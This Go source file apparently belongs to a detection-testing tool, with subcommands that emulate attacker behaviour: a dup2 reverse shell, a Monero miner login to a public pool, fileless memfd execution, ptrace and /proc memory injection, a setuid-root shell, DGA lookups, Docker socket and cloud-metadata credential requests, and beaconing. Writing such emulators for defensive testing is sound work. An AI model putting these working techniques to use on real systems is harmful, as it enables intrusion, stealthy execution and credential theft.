package main

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	register("revshell", "reverse shell, the dup2 spelling: socket on fds 0-2, then exec /bin/sh -i", runRevshell)
	register("miner", "crypto miner: resolve the pool, stratum login, hash, submit shares", runMiner)
	register("portscan", "TCP connect scan of loopback ports (also runs as nmap, masscan)", runPortscan)
	register("memfdexec", "fileless execution: copy a binary into a memfd and exec it", runMemfdExec)
	register("ptrace", "process injection: ptrace-attach a child and poke its memory", runPtrace)
	register("procmem", "process injection: write a child's memory through /proc/PID/mem", runProcMem)
	register("suid", "setuid-root helper: setuid(0) then run a command (as suid-root)", runSuid)
	register("dga", "look up domain names from a seeded generation algorithm", runDGA)
	register("dockerctl", "Docker API client over the Unix socket (as docker)", runDockerctl)
	register("dial", "open TCP connections to loopback host:port", runDial)
	register("lookup", "resolve names through the system resolver", runLookup)
	register("imds", "ask cloud metadata URLs for credentials (only from a namespace with no route out)", runIMDS)
	register("fetch", "HTTP GET URLs a number of times (a beacon); names resolve through the task's DNS", runFetch)
}

func runRevshell(args []string) error {
	fs := flag.NewFlagSet("revshell", flag.ExitOnError)
	addr := fs.String("addr", "127.0.0.1:4444", "listener")
	shell := fs.String("shell", "/bin/sh", "shell")
	fs.Parse(args)
	conn, err := dialGuarded("tcp", *addr, 5*time.Second)
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	fd := int(f.Fd())
	for _, target := range []int{0, 1, 2} {
		if err := unix.Dup2(fd, target); err != nil {
			return fmt.Errorf("dup2: %w", err)
		}
	}
	return syscall.Exec(*shell, []string{"sh", "-i"}, os.Environ())
}

func runMiner(args []string) error {
	fs := flag.NewFlagSet("miner", flag.ExitOnError)
	pool := fs.String("o", "pool.supportxmr.com:3333", "pool host:port (xmrig's -o)")
	user := fs.String("u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "wallet")
	shares := fs.Int("shares", 5, "shares to submit before exiting")
	fs.Parse(args)
	*pool = strings.TrimPrefix(*pool, "stratum+tcp://")
	host, port, err := net.SplitHostPort(*pool)
	if err != nil {
		return err
	}
	ips, err := net.DefaultResolver.LookupHost(context.Background(), host)
	if err != nil {
		return fmt.Errorf("resolving pool: %w", err)
	}
	conn, err := dialGuarded("tcp", net.JoinHostPort(ips[0], port), 5*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	enc := json.NewEncoder(conn)
	rd := bufio.NewScanner(conn)
	call := func(id int, method string, params any) error {
		if err := enc.Encode(map[string]any{"id": id, "jsonrpc": "2.0", "method": method, "params": params}); err != nil {
			return err
		}
		if !rd.Scan() {
			return fmt.Errorf("%s: pool closed: %v", method, rd.Err())
		}
		return nil
	}
	if err := call(1, "login", map[string]string{"login": *user, "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"}); err != nil {
		return err
	}
	// Burn a little CPU per share, bounded, so the trace shows a busy process
	// without taking the machine.
	var h [32]byte
	for s := 0; s < *shares; s++ {
		for i := 0; i < 20000; i++ {
			h = sha256.Sum256(h[:])
		}
		if err := call(2+s, "submit", map[string]string{"id": "1", "job_id": "1", "nonce": fmt.Sprintf("%08x", s), "result": fmt.Sprintf("%x", h)}); err != nil {
			return err
		}
	}
	logf("miner: submitted %d shares to %s", *shares, *pool)
	return nil
}

func runPortscan(args []string) error {
	fs := flag.NewFlagSet("portscan", flag.ExitOnError)
	ports := fs.String("p", "1-1024", "port range")
	timeout := fs.Duration("timeout", 200*time.Millisecond, "per-port timeout")
	fs.Parse(args)
	host := "127.0.0.1"
	if fs.NArg() > 0 {
		host = fs.Arg(0)
	}
	lo, hi, ok := strings.Cut(*ports, "-")
	if !ok {
		hi = lo
	}
	from, err1 := strconv.Atoi(lo)
	to, err2 := strconv.Atoi(hi)
	if err1 != nil || err2 != nil || from < 1 || to > 65535 || from > to {
		return fmt.Errorf("bad port range %q", *ports)
	}
	var open []int
	for p := from; p <= to; p++ {
		c, err := dialGuarded("tcp", net.JoinHostPort(host, strconv.Itoa(p)), *timeout)
		if err != nil {
			if strings.Contains(err.Error(), "refusing") {
				return err
			}
			continue
		}
		open = append(open, p)
		c.Close()
	}
	fmt.Printf("Nmap scan report for %s\n%d ports scanned, open: %v\n", host, to-from+1, open)
	return nil
}

func runMemfdExec(args []string) error {
	fs := flag.NewFlagSet("memfdexec", flag.ExitOnError)
	src := fs.String("src", "/bin/busybox", "binary copied into memory")
	name := fs.String("name", "kworker", "memfd name")
	fs.Parse(args)
	argv := fs.Args()
	if len(argv) == 0 {
		argv = []string{"sh", "-c", "id; uname -a"}
	}
	fd, err := unix.MemfdCreate(*name, unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("memfd_create: %w", err)
	}
	in, err := os.Open(*src)
	if err != nil {
		return err
	}
	mf := os.NewFile(uintptr(fd), "memfd:"+*name)
	if _, err := io.Copy(mf, in); err != nil {
		return err
	}
	in.Close()
	// execveat(fd, "", AT_EMPTY_PATH), as fileless loaders do; the file never
	// touches a disk.
	argv0, err := unix.BytePtrFromString("")
	if err != nil {
		return err
	}
	argvp, err := syscall.SlicePtrFromStrings(argv)
	if err != nil {
		return err
	}
	envp, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(argv0)),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return fmt.Errorf("execveat: %w", errno)
}

// victim starts a child that sleeps, the process the injection tools target.
func victim() (*exec.Cmd, error) {
	cmd := exec.Command("/bin/sleep", "30")
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	time.Sleep(100 * time.Millisecond) // let it exec
	return cmd, nil
}

// writableRegion returns the start of a private writable mapping of pid.
func writableRegion(pid int) (uintptr, error) {
	f, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) >= 2 && strings.HasPrefix(fields[1], "rw-p") {
			lo, _, _ := strings.Cut(fields[0], "-")
			a, err := strconv.ParseUint(lo, 16, 64)
			return uintptr(a), err
		}
	}
	return 0, fmt.Errorf("no writable mapping in pid %d", pid)
}

func runPtrace(args []string) error {
	fs := flag.NewFlagSet("ptrace", flag.ExitOnError)
	fs.Parse(args)
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	v, err := victim()
	if err != nil {
		return err
	}
	defer func() { v.Process.Kill(); v.Wait() }()
	pid := v.Process.Pid
	if err := unix.PtraceAttach(pid); err != nil {
		return fmt.Errorf("PTRACE_ATTACH %d: %w", pid, err)
	}
	var ws unix.WaitStatus
	unix.Wait4(pid, &ws, 0, nil)
	addr, err := writableRegion(pid)
	if err != nil {
		return err
	}
	buf := make([]byte, 8)
	if _, err := unix.PtracePeekData(pid, addr, buf); err != nil {
		return fmt.Errorf("PTRACE_PEEKDATA: %w", err)
	}
	// Write back what was read: an injection in form, harmless in effect.
	if _, err := unix.PtracePokeData(pid, addr, buf); err != nil {
		return fmt.Errorf("PTRACE_POKEDATA: %w", err)
	}
	unix.PtraceDetach(pid)
	fmt.Printf("ptrace: attached to %d, wrote %d bytes at %#x\n", pid, len(buf), addr)
	return nil
}

func runProcMem(args []string) error {
	fs := flag.NewFlagSet("procmem", flag.ExitOnError)
	fs.Parse(args)
	v, err := victim()
	if err != nil {
		return err
	}
	defer func() { v.Process.Kill(); v.Wait() }()
	pid := v.Process.Pid
	addr, err := writableRegion(pid)
	if err != nil {
		return err
	}
	mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer mem.Close()
	buf := make([]byte, 16)
	if _, err := mem.ReadAt(buf, int64(addr)); err != nil {
		return fmt.Errorf("reading /proc/%d/mem: %w", pid, err)
	}
	if _, err := mem.WriteAt(buf, int64(addr)); err != nil {
		return fmt.Errorf("writing /proc/%d/mem: %w", pid, err)
	}
	fmt.Printf("procmem: wrote %d bytes into %d at %#x\n", len(buf), pid, addr)
	return nil
}

func runSuid(args []string) error {
	if err := unix.Setresgid(0, 0, 0); err != nil {
		return fmt.Errorf("setresgid: %w", err)
	}
	if err := unix.Setresuid(0, 0, 0); err != nil {
		return fmt.Errorf("setresuid: %w", err)
	}
	argv := args
	if len(argv) == 0 {
		argv = []string{"/bin/sh", "-c", "id"}
	}
	return syscall.Exec(argv[0], argv, os.Environ())
}

func runDGA(args []string) error {
	fs := flag.NewFlagSet("dga", flag.ExitOnError)
	var c common
	c.flags(fs)
	n := fs.Int("n", 20, "names to look up")
	tld := fs.String("tld", "top", "top-level domain")
	fs.Parse(args)
	resolved := 0
	for _, name := range dgaNames(&c, *n, *tld) {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		if _, err := net.DefaultResolver.LookupHost(ctx, name); err == nil {
			resolved++
		}
		cancel()
	}
	fmt.Printf("dga: %d of %d names resolved\n", resolved, *n)
	return nil
}

func runDockerctl(args []string) error {
	sock := "/var/run/docker.sock"
	path := "/v1.41/containers/json"
	if len(args) > 0 && args[0] == "version" {
		path = "/version"
	}
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return dialGuarded("unix", sock, 2*time.Second)
		},
	}}
	resp, err := client.Get("http://docker" + path)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(os.Stdout, io.LimitReader(resp.Body, 1<<16))
	fmt.Println()
	return err
}

func runDial(args []string) error {
	fs := flag.NewFlagSet("dial", flag.ExitOnError)
	count := fs.Int("count", 3, "connections")
	fs.Parse(args)
	if fs.NArg() != 1 {
		return fmt.Errorf("usage: dial [-count N] host:port")
	}
	for i := 0; i < *count; i++ {
		c, err := dialGuarded("tcp", fs.Arg(0), time.Second)
		if err != nil {
			if strings.Contains(err.Error(), "refusing") {
				return err
			}
			logf("dial %s: %v", fs.Arg(0), err)
			continue
		}
		fmt.Fprintf(c, "HELLO %d\n", i)
		c.Close()
	}
	return nil
}

func runLookup(args []string) error {
	for _, name := range args {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		ips, err := net.DefaultResolver.LookupHost(ctx, name)
		cancel()
		fmt.Printf("%s %v %v\n", name, ips, err)
	}
	return nil
}

func runIMDS(args []string) error {
	client := guardedClient(2 * time.Second)
	var failed int
	for _, u := range args {
		resp, err := client.Get(u)
		if err != nil {
			logf("imds: %v", err)
			failed++
			continue
		}
		io.Copy(os.Stdout, io.LimitReader(resp.Body, 1<<16))
		resp.Body.Close()
	}
	if failed > 0 {
		return fmt.Errorf("%d of %d requests failed", failed, len(args))
	}
	return nil
}

// dgaNames generates n names the way domain generation algorithms do: a
// seeded stream of random labels under one TLD.
func dgaNames(c *common, n int, tld string) []string {
	r := c.rng("dga")
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	out := make([]string, n)
	for i := range out {
		b := make([]byte, 12+r.IntN(10))
		for j := range b {
			b[j] = letters[r.IntN(len(letters))]
		}
		out[i] = string(b) + "." + tld
	}
	return out
}

func runFetch(args []string) error {
	fs := flag.NewFlagSet("fetch", flag.ExitOnError)
	n := fs.Int("n", 1, "rounds")
	every := fs.Duration("every", time.Second, "pause between rounds")
	fs.Parse(args)
	client := guardedClient(2 * time.Second)
	ok := 0
	for i := 0; i < *n; i++ {
		if i > 0 {
			time.Sleep(*every)
		}
		for _, u := range fs.Args() {
			resp, err := client.Get(u)
			if err != nil {
				logf("fetch %s: %v", u, err)
				continue
			}
			io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
			resp.Body.Close()
			ok++
		}
	}
	fmt.Printf("fetch: %d of %d requests answered\n", ok, *n*fs.NArg())
	return nil
}
